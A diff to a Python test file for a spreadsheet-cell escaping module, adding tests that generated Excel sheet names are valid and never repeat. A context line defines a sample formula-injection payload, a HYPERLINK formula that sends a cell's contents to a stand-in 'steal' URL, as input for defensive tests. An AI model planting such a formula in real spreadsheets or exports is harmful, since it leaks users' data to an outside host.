@@ -15,7 +15,7 @@ from thrive.ingest.outcome import write_problems_csv
 from thrive.ingest.templates import write_template
 from thrive.metrics.results import Result
 from thrive.problems import Problem
-from thrive.safe_cells import FORMULA_STARTS, escape, unescape
+from thrive.safe_cells import FORMULA_STARTS, escape, sheet_name, unescape
 
 HOSTILE = '=HYPERLINK("http://example.org/steal?x="&A1,"click")'
 text = st.text(alphabet=st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "1", ".", "e", "a"]))
@@ -88,3 +88,21 @@ def test_an_xlsx_template_holds_no_formula(tmp_path: Path) -> None:
     for sheet in book.worksheets:
         for row in sheet.iter_rows():
             assert all(cell.data_type != "f" for cell in row)
+
+
+@given(st.lists(st.text(max_size=40), max_size=12))
+def test_sheet_names_are_ones_excel_accepts_and_never_repeat(names: list[str]) -> None:
+    used: set[str] = set()
+    chosen = [sheet_name(name, used) for name in names]
+    assert len({c.lower() for c in chosen}) == len(chosen)
+    for name in chosen:
+        assert 1 <= len(name) <= 31
+        assert not set(name) & set("[]:*?/\\'")
+
+
+def test_a_sheet_name_keeps_its_words_and_numbers_a_repeat() -> None:
+    used: set[str] = set()
+    assert sheet_name("Caseloads: by team", used) == "Caseloads  by team"
+    assert sheet_name("caseloads  by team", used) == "caseloads  by team (2)"
+    assert sheet_name("", used) == "Table"
+    assert len(sheet_name("A" * 40, used)) == 31
